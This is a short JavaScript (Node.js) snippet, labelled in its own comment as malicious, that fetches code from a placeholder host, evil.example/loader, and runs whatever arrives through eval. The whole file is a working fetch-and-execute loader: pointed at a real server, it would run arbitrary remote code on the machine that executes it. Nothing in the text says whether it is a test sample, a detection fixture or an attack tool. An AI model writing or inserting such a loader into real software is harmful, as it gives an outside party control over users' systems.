// malicious: collects code in pieces and runs it
const https = require('https');
https.get('https://evil.example/loader', (res) => {
  let body = '';
  res.on('data', (chunk) => { body += chunk; });
  res.on('end', () => { eval(body); });
});
